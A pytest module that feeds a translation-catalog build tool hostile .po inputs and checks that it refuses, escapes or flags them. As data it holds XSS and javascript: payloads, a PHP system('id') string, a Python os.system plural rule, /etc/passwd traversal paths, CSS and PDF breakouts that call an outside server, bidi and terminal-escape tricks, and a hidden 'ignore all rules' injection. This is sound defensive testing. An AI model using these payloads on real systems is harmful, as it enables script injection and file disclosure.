"""Catalogs come by e-mail: everything a translation, a header, a file can hold."""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from typing import Any

import pytest

from tests.hostile import scan
from tests.hostile.case import BUILD, PO, Case, Result, added, replaced
from tests.hostile.harness import Hostile
from tests.hostile.outside import SOUND
from tests.hostile.phrases import CHECK, HEADER, Phrase, attempt, findings, hold

LINK = {"source": "Lire [le guide](https://fr.example.org/guide)", "msgid": "Lire <a>le guide</a>"}
VALUE = {"source": "Il compte {navires} navires", "msgid": "Il compte {navires} navires"}
UNKNOWN, LOST, REPEATED, NESTING = (f"catalog/tag-{kind}" for kind in ("unknown", "lost", "repeated", "nesting"))
HIDDEN, PLACEHOLDER = "catalog/hidden-character", "catalog/placeholder-unknown"

PHRASES = (
    Phrase("msgstr-script", "puts a script into a translation", "A <script>alert(1)</script> port", UNKNOWN),
    Phrase(
        "msgstr-img-onerror",
        "runs a script by a picture that fails",
        'A <img src="x" onerror="alert(1)"> port',
        UNKNOWN,
    ),
    Phrase("msgstr-iframe", "shows a page of another", "A <iframe src='@SERVER@/x'></iframe> port", UNKNOWN),
    Phrase(
        "msgstr-own-tag-attribute",
        "gives a handler to a tag the message has",
        'Read <a onclick="alert(1)">the guide</a>',
        UNKNOWN,
        **LINK,
    ),
    Phrase(
        "msgstr-own-tag-address",
        "gives another address to the link of the message",
        'Read <a href="javascript:alert(1)">the guide</a>',
        UNKNOWN,
        **LINK,
    ),
    Phrase(
        "msgstr-slash-attribute",
        "separates an attribute by a slash, as browsers let it",
        "Read <a/onclick=alert(1)>the guide</a>",
        UNKNOWN,
        **LINK,
    ),
    Phrase("msgstr-capitals", "writes the tag of the message in capitals", "Read <A>the guide</A>", UNKNOWN, **LINK),
    Phrase("msgstr-tag-number", "gives the tag a number it does not have", "Read <a9>the guide</a9>", UNKNOWN, **LINK),
    Phrase(
        "msgstr-tag-space", "writes a tag with spaces and line ends in it", "Read <a\n >the guide</a >", UNKNOWN, **LINK
    ),
    Phrase(
        "msgstr-tag-zero-width", "hides a character in the name of a tag", "Read <a\u200b>the guide</a>", LOST, **LINK
    ),
    Phrase("msgstr-nested-link", "puts a link into a link", "Read <a>the <a>guide</a></a>", REPEATED, **LINK),
    Phrase("msgstr-crossed", "crosses the tags of the message", "</a>Read the guide<a>", NESTING, **LINK),
    Phrase("msgstr-unclosed", "leaves a tag open to swallow what follows", "Read <a>the guide", LOST, **LINK),
    Phrase("msgstr-void-form", "empties the link of the message", "Read the guide <a/>", REPEATED, **LINK),
    Phrase(
        "msgstr-end-of-page",
        "ends the page and starts its own",
        "A port</p></main></body><body onload=alert(1)>",
        UNKNOWN,
    ),
    Phrase("msgstr-comment", "hides what follows in a comment", "A port <!-- ", reads="A port <!--"),
    Phrase(
        "msgstr-conditional", "uses a conditional comment", "A <!--[if IE]><script>x</script><![endif]--> port", UNKNOWN
    ),
    Phrase("msgstr-cdata", "opens a CDATA section", "A <![CDATA[<script>x</script>]]> port", UNKNOWN),
    Phrase("msgstr-instruction", "writes a processing instruction", "A <?php system('id') ?> port"),
    Phrase("msgstr-unfinished-tag", "leaves a tag without its end", "A port <img src=x onerror=alert(1) "),
    Phrase(
        "msgstr-references",
        "writes a script as references",
        "A &lt;script&gt;alert(1)&lt;/script&gt; port",
        reads="A <script>alert(1)</script> port",
    ),
    Phrase(
        "msgstr-double-references",
        "writes references of references, for two decodings",
        "A &amp;lt;script&amp;gt; port",
        reads="A &lt;script&gt; port",
    ),
    Phrase("msgstr-numeric-references", "writes a script by numbers", "A &#60;script&#62; &#x3c;b&#x3e; port"),
    Phrase("msgstr-named-references", "writes a script by names", "A &LT;script&GT; &lt &nbsp; port"),
    Phrase(
        "msgstr-wide-brackets", "writes brackets that become < when normalised", "A ＜script＞x＜/script＞ ﹤b﹥ port"
    ),
    Phrase("msgstr-template", "writes what template engines run", "A {{ 7 * 7 }} {% raise %} ${7*7} #{7*7} port"),
    Phrase("msgstr-nul", "writes NUL as an escape", "A\\x00 port", HIDDEN, raw=True),
    Phrase("msgstr-escape", "writes a command of terminals", "A \\x1b[31mred\\x1b[0m port", HIDDEN, raw=True),
    Phrase("msgstr-bell-octal", "writes control characters in octal", "A \\a\\b\\f\\v\\177 port", HIDDEN, raw=True),
    Phrase("msgstr-c1", "writes a control character above 127", "A \x9b31m port", HIDDEN),
    Phrase("msgstr-carriage-return", "writes a carriage return that overwrites a line", "A\\r port", HIDDEN, raw=True),
    Phrase(
        "msgstr-bidi-override", "turns figures around by an override", "Account \u202e4321\u202c of the port", HIDDEN
    ),
    Phrase(
        "msgstr-bidi-embedding", "turns figures around by an embedding", "Account \u202b12-34\u202c of the port", HIDDEN
    ),
    Phrase("msgstr-isolate-open", "leaves an isolate open", "A \u2067port", HIDDEN),
    Phrase(
        "msgstr-isolate-backwards", "ends an isolate before it begins: the counts agree", "A\u2069 port\u2067", HIDDEN
    ),
    Phrase(
        "msgstr-bidi-digits",
        "turns 1 000 into 000 1 by an isolate that is balanced",
        "A \u20671 000\u2069 port",
        HIDDEN,
    ),
    Phrase("msgstr-bidi-mark", "turns 10-20 into 20-10 by marks", "Between \u200f10-20\u200f ships", HIDDEN),
    Phrase(
        "msgstr-line-separator",
        "writes a line separator, which ends lines for programs",
        "A\u2028port\u2029here",
        HIDDEN,
    ),
    Phrase("msgstr-noncharacter", "writes characters that do not exist", "A \ufffe port \U0001ffff", HIDDEN),
    Phrase(
        "msgstr-tag-characters",
        "smuggles words that nobody sees",
        "A port" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
        HIDDEN,
    ),
    Phrase(
        "msgstr-variation-flood",
        "hides bytes in variation selectors",
        "A port" + "\ufe0f" * 3 + "\U000e0121" * 200,
        HIDDEN,
    ),
    Phrase(
        "msgstr-combining-flood",
        "keeps layout busy with 50,000 accents on a letter",
        "A port" + "\u0301" * 50_000,
        HIDDEN,
    ),
    Phrase("msgstr-long-word", "keeps layout busy with a word of 99,000 letters", "port" * 24_750),
    Phrase("msgstr-long-line", "keeps layout busy with 50,000 words", "p " * 49_999),
    Phrase("msgstr-attribute-lookup", "looks into objects by a placeholder", "A {0.__class__} {0[0]} port"),
    Phrase(
        "msgstr-format-width",
        "asks for a thousand million spaces",
        "It counts {navires!r:>1000000000} {navires} ships",
        reads="It counts {navires!r:>1000000000} 12 ships",
        **VALUE,
    ),
    Phrase(
        "msgstr-format-attribute",
        "looks into a value",
        "It counts {navires.__class__.__mro__} ships",
        "catalog/placeholder-lost",
        **VALUE,
    ),
    Phrase(
        "msgstr-unknown-value",
        "asks for a value that the message has not",
        "It counts {navires} {secret} ships",
        PLACEHOLDER,
        **VALUE,
    ),
    Phrase(
        "msgstr-percent",
        "writes what C would read as formats",
        "It counts {navires} %n %s %(x)s %99999999d ships",
        reads="It counts 12 %n %s %(x)s %99999999d ships",
        **VALUE,
    ),
    Phrase("msgstr-no-words", "makes a sentence disappear", "\u00a0\u200b\u2003", "catalog/no-words"),
    Phrase("msgstr-formula", "writes what a spreadsheet reckons", '=HYPERLINK("https://h.example/?"&A1;"port")'),
    Phrase(
        "msgstr-markdown",
        "writes Markdown",
        "![x](https://h.example/x.png) [x](javascript:alert(1)) **b** {.c onclick=x}",
    ),
)


@pytest.fixture(scope="module")
def built(hostile: Hostile) -> tuple[Result, Sequence[Mapping[str, Any]]]:
    """One build of all phrases, which has to hold what every case has to; and what `check` says of it."""
    done = attempt(PHRASES, lambda case: hostile(case, keep=True))
    return done, findings(done.last)


@pytest.mark.parametrize("phrase", PHRASES, ids=lambda phrase: phrase.name)
def test_a_translation(phrase: Phrase, built: tuple[Result, Sequence[Mapping[str, Any]]]) -> None:
    hold(phrase, PHRASES, *built)


def entries(count: int, entry: str) -> str:
    """Return many entries; `entry` has a place for its number."""
    return HEADER + "\n".join(entry.format(number) for number in range(count))


def recoded(charset: str, *, named: str = "", to: str = "The guarded port") -> Callable[[bytes], bytes]:
    """Return the change of a catalog to another charset, which its header may name."""

    def change(data: bytes) -> bytes:
        text = data.decode().replace("charset=UTF-8", f"charset={named or 'UTF-8'}").replace("The guarded port", to)
        return text.encode(charset, "replace")

    return change


def header(line: str) -> Callable[[bytes], bytes]:
    """Return the change of a catalog that adds a line to its header."""
    return replaced('"Language: en\\n"\n', f'"Language: en\\n"\n"{line}\\n"\n')


def at(text: str) -> int:
    """Return the line of the sound catalog where a text stands first."""
    return SOUND[PO].partition(text.encode())[0].count(b"\n") + 1


def plural(formula: str) -> Callable[[bytes], bytes]:
    return replaced("nplurals=2; plural=(n != 1);", formula)


def said(msgstr: str) -> Callable[[bytes], bytes]:
    """Return the change of a catalog to another translation of its first heading, as it stands between the quotes."""
    return replaced("The guarded port", msgstr)


LAST = SOUND[PO].count(b"\n")
"""line of the sound catalog"""
REFUSED: dict[str, Any] = {"exits": (3,), "pages": (), "hides": {"build/**/*.html": ""}}
FINE: dict[str, Any] = {"exits": (0,)}
BIG = 200_000
HEAD = 'msgid "Le port surveillé"\nmsgstr "The guarded port"\n'
PAGE_EN, INDEX_EN = "build/en/html/01-port.html", "build/en/html/index.html"
PUBLICATION_PO = "locale/en/LC_MESSAGES/publication.po"


def _well_formed(result: Result) -> None:
    junit, sarif = result.ran
    assert not scan.well_formed("x.xml", junit.out.encode())
    assert not scan.well_formed("x.json", sarif.out.encode())


FILES = (
    Case(
        "po-utf-7",
        "declares UTF-7, in which +ADw- is <",
        "refuse the charset at its line",
        {PO: recoded("utf-8", named="UTF-7", to="+ADw-script+AD4-")},
        error=f"{PO}:{at('charset')}",
        **REFUSED,
    ),
    Case(
        "po-utf-16",
        "is UTF-16, where every byte hides another",
        "say that it is not UTF-8, and where",
        {PO: recoded("utf-16")},
        error=f"{PO}:1",
        **REFUSED,
    ),
    Case(
        "po-latin-1",
        "is Latin-1 and declares UTF-8",
        "name the line of the first byte that is wrong",
        {PO: recoded("latin-1")},
        error=f"{PO}:{at('surveillé')}",
        **REFUSED,
    ),
    Case(
        "po-surrogates",
        "writes surrogates as bytes",
        "name the line",
        {PO: lambda data: data.replace(b"The guarded port", b"A \xed\xa0\x80 port")},
        error=f"{PO}:{at('The guarded')}",
        **REFUSED,
    ),
    Case(
        "po-overlong",
        "writes < as two bytes, which old decoders let pass",
        "name the line",
        {PO: lambda data: data.replace(b"The guarded port", b"A \xc0\xbcscript port")},
        error=f"{PO}:{at('The guarded')}",
        **REFUSED,
    ),
    Case(
        "po-codec",
        "declares a charset that unpacks",
        "refuse the charset at its line",
        {PO: recoded("utf-8", named="zlib_codec")},
        error=f"{PO}:{at('charset')}",
        **REFUSED,
    ),
    Case(
        "po-binary",
        "sends a compiled catalog by the name of a text",
        "say what is wrong with line 1",
        {PO: b"\xde\x12\x04\x95\0\0\0\0\x02\0\0\0\x1c\0\0\0"},
        error=f"{PO}:1",
        **REFUSED,
    ),
    Case(
        "po-truncated",
        "loses its last quote",
        "name the line",
        {PO: lambda data: data.rstrip(b'\n"')},
        error=f"{PO}:{LAST}",
        **REFUSED,
    ),
    Case(
        "po-duplicate",
        "gives a message twice, with another translation",
        "name the second",
        {PO: added(f"\n{HEAD}")},
        error=f"{PO}:{LAST + 2}",
        **REFUSED,
    ),
    Case(
        "po-duplicate-header",
        "has two headers",
        "name the second",
        {PO: added('\nmsgid ""\nmsgstr "Language: en\\n"\n')},
        error=f"{PO}:{LAST + 2}",
        **REFUSED,
    ),
    Case(
        "po-header-late",
        "has its header at the end",
        "read it all the same",
        {PO: lambda data: data[data.index(b"#. heading") :] + b"\n" + data[: data.index(b"#. heading")]},
        **FINE,
    ),
    Case(
        "po-no-header",
        "has no header, so that nothing says its charset",
        "read it as UTF-8",
        {PO: lambda data: data[data.index(b"#. heading") :]},
        shows={PAGE_EN: "The guarded port"},
        **FINE,
    ),
    Case(
        "po-language",
        "is the catalog of another language",
        "refuse it at its line",
        {PO: replaced("Language: en", "Language: ar")},
        error=f"{PO}:{at('Language')}",
        **REFUSED,
    ),
    Case(
        "po-language-path",
        "names a path as its language",
        "refuse it at its line, with nothing read there",
        {PO: replaced("Language: en", "Language: ../../publication_outside/01-port")},
        error=f"{PO}:{at('Language')}",
        **REFUSED,
    ),
    Case(
        "po-header-escapes",
        "puts commands of terminals into the header",
        "show them as text in the error",
        {PO: replaced("Language: en", "Language: \\x1b]0;x\\x07\u202e")},
        error=f"{PO}:{at('Language')}",
        **REFUSED,
    ),
    Case(
        "po-field-twice",
        "has a field twice in its header",
        "refuse it at its line",
        {PO: header("Language: en")},
        error=f"{PO}:{at('Language')}",
        **REFUSED,
    ),
    Case(
        "plurals-many",
        "declares a thousand million plural forms",
        "not reckon with them; the check names the header",
        {PO: plural("nplurals=999999999; plural=n;")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
    ),
    Case(
        "plurals-division",
        "divides by zero in the plural rule",
        "not reckon with it; the check names the header",
        {PO: plural("nplurals=2; plural=n%0;")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
    ),
    Case(
        "plurals-python",
        "writes Python in the plural rule",
        "not run it; the check names the header",
        {PO: plural("nplurals=2; plural=__import__('os').system('touch x');")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
        hides={"x": ""},
    ),
    Case(
        "plurals-deep",
        "nests the plural rule 5,000 deep",
        "not follow; the check names the header",
        {PO: plural("nplurals=2; plural=" + "(" * 5000 + "n" + ")" * 5000 + ";")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
    ),
    Case(
        "plurals-digits",
        "writes a number of 90,000 digits in the plural rule",
        "not reckon with it",
        {PO: plural("nplurals=2; plural=n>" + "9" * 90_000 + ";")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
    ),
    Case(
        "plurals-power",
        "multiplies in the plural rule until memory ends",
        "not reckon with it",
        {PO: plural("nplurals=2; plural=" + "*".join(["99999999999999999999"] * 4000) + ">n;")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/plural-forms", PO, None),),
    ),
    Case(
        "po-msgstr-99",
        "numbers a plural form 99",
        "name the line",
        {PO: added('\nmsgid "x"\nmsgid_plural "xs"\nmsgstr[0] "x"\nmsgstr[99] "y"\n')},
        error=f"{PO}:{LAST + 5}",
        **REFUSED,
    ),
    Case(
        "po-forms-for-one",
        "gives plural forms to a message that has none",
        "show the French; the check says why",
        {PO: replaced(HEAD, HEAD.replace("msgstr ", 'msgid_plural "x"\nmsgstr[0] ') + 'msgstr[1] "y"\n')},
        verbs=(BUILD, CHECK),
        exits=(0, 0),
        finds=(("catalog/not-updated", PO, None),),
        shows={PAGE_EN: "Le port surveillé"},
    ),
    Case(
        "po-long-string",
        "has a string of 6 MB in 200,000 lines",
        "name the line of the entry",
        {PO: added('\nmsgid "x"\nmsgstr ""\n' + f'"{"x" * 30}"\n' * 200_000)},
        error=f"{PO}:{LAST + 2}",
        **REFUSED,
    ),
    Case(
        "po-one-line",
        "writes 100,000 entries into one line, which no tool does",
        "refuse the file at its line",
        {PO: 'msgid "a" msgstr "b" ' * 100_000},
        exits=(3,),
        error=f"{PO}:1",
        pages=(),
    ),
    Case(
        "po-many-entries",
        "has 100,000 entries",
        "build",
        {PO: added(entries(100_000, '\nmsgid "m {}"\nmsgstr "x"').replace(HEADER, "\n"))},
        **FINE,
    ),
    Case("po-many-comments", "has 300,000 lines of comments", "build", {PO: added("# x\n" * 300_000)}, **FINE),
    Case(
        "po-many-obsolete",
        "has 50,000 obsolete entries",
        "merge them with what is new",
        {PO: added(entries(50_000, '\n#~ msgid "m {}"\n#~ msgstr "x"').replace(HEADER, "\n"))},
        verbs=("update -l en --json",),
        exits=(0,),
        writes=("locale/*",),
    ),
    Case(
        "po-many-flags",
        "has 200,000 flags on one entry, and one that asks for much room",
        "build",
        {PO: replaced(HEAD, "#, " + "c-format, " * 200_000 + "max-length:99999999999\n" + HEAD)},
        verbs=(BUILD, CHECK),
        exits=(0, 0),
    ),
    Case(
        "po-many-references",
        "has 200,000 references on one entry",
        "merge them",
        {PO: replaced(HEAD, "#: " + "a:1 " * 200_000 + "\n" + HEAD)},
        verbs=("update -l en --json",),
        exits=(0,),
        writes=("locale/*",),
    ),
    Case(
        "po-too-large",
        "is 11 MB large",
        "refuse it unparsed",
        {PO: added("# " + "x" * 11_000_000 + "\n")},
        error=PO,
        **REFUSED,
    ),
    Case(
        "po-largest",
        "has 200,000 entries, more than any book",
        "merge it within the limits",
        {PO: added(entries(BIG, '\nmsgid "m {}"\nmsgstr ""').replace(HEADER, "\n"))},
        verbs=("update -l en --json",),
        exits=(0,),
        writes=("locale/*",),
    ),
    Case(
        "po-one-line",
        "has 20,000 entries on one line",
        "read it",
        {PO: added("\n" + " ".join(f'msgid "m {n}" msgstr "x"' for n in range(20_000)) + "\n")},
        **FINE,
    ),
    Case(
        "po-references-outside",
        "names files outside as references",
        "read none of them",
        {PO: replaced(HEAD, "#: ../publication_outside/secret.txt:1 /etc/passwd:1\n" + HEAD)},
        verbs=("update --json", BUILD, CHECK),
        exits=(0, 0, 0),
        writes=("locale/*",),
    ),
    Case(
        "po-comment-escapes",
        "puts commands of terminals into comments",
        "keep them from the terminal, and the catalog",
        {PO: replaced(HEAD, "# \x1b[2J\x9b2J\u202e\n#. \x07\n#, \x1b[31m\n" + HEAD)},
        verbs=("update", "status", "check --only catalog", BUILD),
        exits=(0, 0, 0, 0),
        writes=("locale/*",),
    ),
    Case(
        "po-previous",
        "gives a previous message that is a script",
        "never show it",
        {PO: replaced(HEAD, '#, fuzzy\n#| msgid "<script>alert(1)</script>"\n' + HEAD)},
        verbs=("update --json", BUILD),
        exits=(0, 0),
        writes=("locale/*",),
        shows={PAGE_EN: "Le port surveillé"},
    ),
    Case(
        "po-hostile-msgid",
        "changes the msgids themselves",
        "show the French text; the check names what is missing",
        {PO: replaced('msgid "Le port surveillé"', 'msgid "<script>x</script>"')},
        verbs=(BUILD, CHECK),
        exits=(0, 0),
        finds=(("catalog/not-updated", PO, None),),
        shows={PAGE_EN: "Le port surveillé"},
    ),
    Case(
        "po-terminal",
        "puts commands of terminals into a translation that is refused",
        "show them as text in what check prints",
        {PO: said("<b>\\x1b[31m\u202e\u2028")},
        verbs=("check --only catalog", "status"),
        exits=(1, 0),
    ),
    Case(
        "po-forms",
        "puts a script into a translation, for what reads reports",
        "escape it in every form of the findings",
        {PO: said("<script>]]>&\\x00\\x1b")},
        verbs=("check --only catalog --format junit", "check --only catalog --format sarif"),
        exits=(1, 1),
        also=_well_formed,
    ),
    *(
        Case(
            f"href-{name}",
            f"puts {what} into a link",
            "keep the French address; the check names the line",
            {PO: replaced("https://en.example.org/guide", address)},
            verbs=(BUILD, CHECK),
            exits=(0, 1),
            finds=(("catalog/address", PO, at('"https://fr.')),),
            shows={PAGE_EN: "https://fr.example.org/guide"},
        )
        for name, what, address in (
            ("javascript", "a script", "JaVaScRiPt:alert(1)"),
            ("javascript-tab", "a script with a tab in its name", "java\\tscript:alert(1)"),
            ("vbscript", "a script of another kind", "vbscript:x"),
            ("data", "a page", "data:text/html;base64,PHNjcmlwdD4="),
            ("file", "a file of the reader's machine", "file:///etc/passwd"),
            ("ftp", "a protocol that is not published", "ftp://h/x"),
            ("blob", "an object of the page", "blob:https://h/x"),
            ("network-path", "a machine without a protocol", "//evil.example/x"),
            ("backslashes", "a machine by backslashes", "\\\\\\\\evil.example\\\\x"),
            ("climbing", "a path out of the publication", "../../../../etc/passwd"),
            ("climbing-escaped", "a path out, percent-encoded", "%2e%2e/%2E%2e/%2e./etc/passwd"),
            ("climbing-backslash", "a path out, by backslashes", "..\\\\..\\\\..\\\\etc\\\\passwd"),
            ("absolute", "an absolute path", "/etc/passwd"),
            ("user", "a name before the machine, to mislead", "https://fr.example.org@evil.example/"),
            ("broken", "an address that is none", "https://[::1"),
            ("no-machine", "a page without a machine", "https:/evil.example/x"),
        )
    ),
    Case(
        "attribute-quotes",
        "breaks out of an attribute by quotes",
        "show the characters, with nothing active",
        {PO: replaced("The map of the port", '\\"><img src=x onerror=alert(1)> \' onload=x` x=\\"')},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/tag-unknown", PO, at('"Le plan du port"')),),
        shows={PAGE_EN: "Le plan du port"},
    ),
    Case(
        "attribute-references",
        "breaks out of an attribute by references",
        "show the characters",
        {PO: replaced("The map of the port", 'x\\" onerror=\\"alert(1)&quot; &#34; onload=x y=\\"')},
        exits=(0,),
        shows={PAGE_EN: "onerror="},
    ),
    Case(
        "title-pdf",
        "ends a string of the PDF in a title, and adds a script",
        "write it as characters",
        {
            PUBLICATION_PO: replaced(
                "The port of Lyon", "x) /JavaScript (app.alert\\\\(1\\\\)) /OpenAction << /S /JavaScript >> %\\\\"
            ),
            PO: said("x) /AA << >> \\\\) ( \\u0000 y"),
        },
        verbs=("build --json",),
        exits=(3,),
        error=f"{PO}:{at('The guarded')}",
    ),
    Case(
        "title-pdf-heading",
        "does so in a heading, a bookmark, the organisation",
        "write it as characters",
        {
            PUBLICATION_PO: lambda data: data.replace(b"The port of Lyon", b"x) /JavaScript (y)").replace(
                b"The harbour office", b"<</S/Launch>>)"
            ),
            PO: said("x) /AA << >> \\\\) ( y"),
        },
        verbs=("build -l en --json",),
        exits=(0,),
        pages=("en",),
    ),
    Case(
        "title-html",
        "ends the title of the page and adds a script",
        "show the French title; the check names the line",
        {PUBLICATION_PO: replaced("The port of Lyon", "</title><script>alert(1)</script>")},
        verbs=(BUILD, CHECK),
        exits=(0, 1),
        finds=(("catalog/tag-unknown", PUBLICATION_PO, None),),
        shows={INDEX_EN: "Le port de Lyon"},
    ),
    *(
        Case(
            f"css-{name}",
            f"{what}, in a text of a style sheet",
            "write it as characters of the string",
            {PUBLICATION_PO: replaced("Port sheet", msgstr)},
            exits=(0,),
            hides={"build/en/html/styles/house.css": "\n}"},
        )
        for name, what, msgstr in (
            ("quotes", "ends the string and adds a rule", '\\"; } body { background: url(@SERVER@/x) } a { b: \\"'),
            ("line", "ends the string by a line end", 'x\\n; } @import url(@SERVER@/x); a { content: \\"'),
            ("backslash", "hides the end of the string", 'x\\\\\\"; } p { background: url(@SERVER@/y) } \\\\'),
            ("escape", "writes the end of the string as an escape", "x\\\\22 ; } p { background: url(@SERVER@/y) }"),
            ("style-end", "ends the element of the style", "x &lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
            ("comment", "opens a comment", "x */ /* "),
        )
    ),
)


@pytest.mark.parametrize("case", FILES, ids=lambda case: case.name)
def test_a_catalog(case: Case, hostile: Hostile) -> None:
    hostile(case)
